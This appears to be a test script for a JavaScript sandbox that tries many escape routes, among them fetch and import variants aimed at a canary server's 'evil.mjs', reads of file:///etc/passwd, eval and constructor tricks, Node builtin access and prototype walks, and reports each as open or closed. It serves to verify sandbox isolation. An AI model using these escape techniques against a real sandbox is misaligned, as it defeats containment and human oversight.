// biome-ignore-all lint/suspicious/noExplicitAny: it looks for what no type knows.
// @ts-nocheck
// A program that tries to leave the laboratory. It is never imported: tests run its text. Each way ends with a line
// „name: zu“ or „name: OFFEN …“; TARGET is a server that must see nothing.
const TARGET = process.env['TARGET'] ?? '';
const scope: any = globalThis;
const any = (value: unknown): any => value;

const isNative = (value: unknown): boolean =>
  typeof value === 'function' && /\[native code\]/.test(Function.prototype.toString.call(value));

/** The property wherever it hides along the prototypes of the global object. */
function dig(name: string): any {
  for (let object = scope; object; object = Object.getPrototypeOf(object)) {
    const property = Object.getOwnPropertyDescriptor(object, name);
    if (property?.value !== undefined) return property.value;
    if (property?.get) return property.get.call(scope);
  }
  return undefined;
}

function mustBeAbsent(name: string): () => void {
  return () => {
    const found = dig(name);
    if (found !== undefined) throw Object.assign(new Error(`${name} is there`), { open: true });
  };
}

async function reach(work: () => unknown): Promise<unknown> {
  const result: any = await work();
  return result;
}

const evil = `${TARGET}/evil.mjs`;
process.on('unhandledRejection', () => {});

const ways: Record<string, () => unknown> = {
  // Shows that an open way would be seen.
  'the control': () => 'seen',
  'fetch an address': () => fetch(`${TARGET}/fetch`),
  'fetch a name': () => fetch('https://example.org/fetch'),
  'fetch localhost': () => fetch(TARGET.replace('127.0.0.1', 'localhost')),
  'fetch IPv6': () => fetch(TARGET.replace('127.0.0.1', '[::1]')),
  'fetch a decimal address': () => fetch(TARGET.replace('127.0.0.1', '2130706433')),
  'fetch no-cors': () => fetch(`${TARGET}/nocors`, any({ mode: 'no-cors', keepalive: true })),
  'fetch a Request': () => fetch(new Request(`${TARGET}/request`, { method: 'POST', body: 'x' })),
  'fetch a data URL': async () => {
    const text = `<img src="${TARGET}/data">`;
    const answer = await (await fetch(`data:text/html,${encodeURIComponent(text)}`)).text();
    return answer === text ? Promise.reject(new Error('only the text in the address')) : answer;
  },
  'fetch a file': () => fetch('file:///etc/passwd'),
  'fetch a path': () => fetch('/lab/manifest.json'),
  'native fetch on a prototype': () => {
    const found = dig('fetch');
    return isNative(found) ? found(`${TARGET}/native`) : Promise.reject(new Error('not native'));
  },
  'synchronous XMLHttpRequest': () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${TARGET}/xhr`, false);
    request.send();
  },
  'asynchronous XMLHttpRequest': () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${TARGET}/xhr-async`);
      request.onload = resolve;
      request.onerror = () => reject(new Error('closed'));
      request.send();
    }),
  'import an address': () => import(any(evil)),
  'import an address literally': () => import('http://127.0.0.1:1/evil.mjs' as string),
  'import over a comment': () => import(/* x */ /* y */ any(evil)),
  'import after a regular expression': () => /[/]import[(]"/.test('x') || import(any(evil)),
  'import in a template': () => `${import(any(evil)).catch(() => {})}` && Promise.reject(new Error('only text')),
  'import an own path': () => import(any('/lab/manifest.json')),
  'import a data URL': () => import(any('data:text/javascript,export default 1')),
  'import a blob': () => {
    const url = any(URL).createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }));
    return import(any(url));
  },
  'import a file': () => import(any('file:///etc/passwd')),
  'import node:fs': () => import(any('node:fs')),
  'import node:http': () => import(any('node:http')),
  'import node:worker_threads': () => import(any('worker_threads')),
  'import in eval': () => scope.eval(`import(${JSON.stringify(evil)})`),
  'import node:fs in eval': () => scope.eval('import("node:fs")'),
  'import in new Function': () => new Function(`return import(${JSON.stringify(evil)})`)(),
  'import node:fs in new Function': () => new Function('return import("node:fs")')(),
  'import in an async constructor': () => any(async () => {}).constructor('return await import("node:net")')(),
  'import in a generator constructor': () =>
    any(function* () {})
      .constructor('yield import("node:net")')()
      .next().value,
  'import by the handle': () => scope.__wartezeit.import(evil),
  'builtin by the handle': () => scope.__wartezeit.builtin('fs') ?? Promise.reject(new Error('none')),
  'code in setTimeout': () => any(setTimeout)(`fetch(${JSON.stringify(`${TARGET}/timeout`)})`, 1),
  require: mustBeAbsent('require'),
  module: mustBeAbsent('module'),
  // The lab's is a package; Node's own alone has this method.
  "Node's Buffer": () => dig('Buffer').copyBytesFrom ?? Promise.reject(new Error('none')),
  Worker: mustBeAbsent('Worker'),
  SharedWorker: mustBeAbsent('SharedWorker'),
  WebSocket: mustBeAbsent('WebSocket'),
  WebSocketStream: mustBeAbsent('WebSocketStream'),
  EventSource: mustBeAbsent('EventSource'),
  WebTransport: mustBeAbsent('WebTransport'),
  RTCPeerConnection: mustBeAbsent('RTCPeerConnection'),
  RTCDataChannel: mustBeAbsent('RTCDataChannel'),
  BroadcastChannel: mustBeAbsent('BroadcastChannel'),
  importScripts: mustBeAbsent('importScripts'),
  indexedDB: mustBeAbsent('indexedDB'),
  caches: mustBeAbsent('caches'),
  cookieStore: mustBeAbsent('cookieStore'),
  localStorage: mustBeAbsent('localStorage'),
  location: mustBeAbsent('location'),
  postMessage: mustBeAbsent('postMessage'),
  close: mustBeAbsent('close'),
  FontFace: mustBeAbsent('FontFace'),
  FileReader: mustBeAbsent('FileReader'),
  fonts: mustBeAbsent('fonts'),
  scheduler: mustBeAbsent('scheduler'),
  trustedTypes: mustBeAbsent('trustedTypes'),
  Notification: mustBeAbsent('Notification'),
  OffscreenCanvas: mustBeAbsent('OffscreenCanvas'),
  createImageBitmap: mustBeAbsent('createImageBitmap'),
  requestAnimationFrame: mustBeAbsent('requestAnimationFrame'),
  WorkerGlobalScope: mustBeAbsent('WorkerGlobalScope'),
  'events of the scope': () => scope.addEventListener('message', () => {}),
  'events of the scope by the prototype': () => {
    const hear = (event: any) => event.target.fetch(`${TARGET}/event`).catch(() => {});
    EventTarget.prototype.addEventListener.call(scope, 'unhandledrejection', hear, { once: true });
    Promise.reject(new Error('heard'));
    throw new Error('nothing gained');
  },
  beacon: () => any(navigator).sendBeacon(`${TARGET}/beacon`),
  'service worker': () => any(navigator).serviceWorker.register('/sw.js'),
  locks: () => any(navigator).locks.request('x', () => fetch(TARGET)),
  storage: () => any(navigator).storage.getDirectory(),
  'the real navigator': () => Object.getPrototypeOf(navigator).sendBeacon(`${TARGET}/beacon`),
  'process.binding': () => any(process).binding('fs'),
  'process.getBuiltinModule': () => any(process).getBuiltinModule('fs') ?? Promise.reject(new Error('none')),
  'process.dlopen': () => any(process).dlopen({}, '/x.node'),
  'process.mainModule': () => any(process).mainModule.require('fs'),
  'the constructor of process': () => new (any(process).constructor)().getBuiltinModule('fs'),
  'undici by its symbol': () => {
    const dispatcher = scope[Symbol.for('undici.globalDispatcher.1')];
    return dispatcher.request({ origin: TARGET, path: '/undici', method: 'GET' });
  },
  'call sites of a stack': () => {
    any(Error).prepareStackTrace = (_error: Error, sites: any[]) => sites;
    const sites: any = new Error('x').stack;
    any(Error).prepareStackTrace = undefined;
    for (const site of sites) {
      const found = [site.getThis?.(), site.getFunction?.()].find((value) => value !== undefined && value !== null);
      if (found !== undefined && found !== scope) return found;
    }
    throw new Error('nothing');
  },
  'a transferred stream': () => structuredClone(new ReadableStream(), { transfer: [new ReadableStream() as any] }),
  'a native port': () => {
    const { port1 } = new MessageChannel();
    return isNative(port1.postMessage) ? port1 : Promise.reject(new Error('ours'));
  },
  'WebAssembly by streaming': () => any(WebAssembly).compileStreaming(fetch(`${TARGET}/x.wasm`)),
  'Atomics.waitAsync': () => any(Atomics).waitAsync(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1),
  'a timer that is native': () => (isNative(setTimeout) ? setTimeout : Promise.reject(new Error('ours'))),
  'AbortSignal.timeout that is native': () =>
    isNative(AbortSignal.timeout) ? AbortSignal.timeout : Promise.reject(new Error('ours')),
  'a walk through everything': () => {
    const wanted =
      /^(?:fetch|setTimeout|setInterval|setImmediate|Worker|SharedWorker|XMLHttpRequest|WebSocket|EventSource|WebTransport|importScripts|postMessage|Request|Response|MessageChannel|BroadcastChannel|waitAsync|FontFace|createObjectURL|getBuiltinModule|require)$/;
    const seen = new Set<unknown>();
    const found: string[] = [];
    const walk = (object: any, depth: number): void => {
      if (object === null || (typeof object !== 'object' && typeof object !== 'function')) return;
      if (seen.has(object) || depth > 8) return;
      seen.add(object);
      for (const key of Reflect.ownKeys(object)) {
        const property = Object.getOwnPropertyDescriptor(object, key);
        for (const value of [property?.value, property?.get, property?.set]) {
          if (isNative(value) && wanted.test(value.name)) found.push(value.name);
          walk(value, depth + 1);
        }
      }
      walk(Object.getPrototypeOf(object), depth + 1);
    };
    const seeds = [scope, console, process, setTimeout(() => {}, 1), new Response('x'), new Request('http://a/')];
    for (const seed of [...seeds, performance, navigator, new Error('x'), new AbortController(), import.meta])
      walk(seed, 0);
    if (found.length > 0) return found.join(' ');
    throw new Error(`nothing among ${seen.size} objects`);
  },
};

let open = 0;
for (const [name, work] of Object.entries(ways)) {
  try {
    const result = await reach(work);
    if (/^[a-zA-Z]+$/.test(name) && result === undefined) {
      console.log(`${name}: zu`);
    } else {
      open++;
      console.log(`${name}: OFFEN ${String(result).slice(0, 80)}`);
    }
  } catch (error) {
    if ((error as { open?: boolean }).open) {
      open++;
      console.log(`${name}: OFFEN`);
    } else console.log(`${name}: zu`);
  }
}
console.log(`${Object.keys(ways).length} Wege, ${open} offen`);
await new Promise((resolve) => setTimeout(resolve, 1_000));
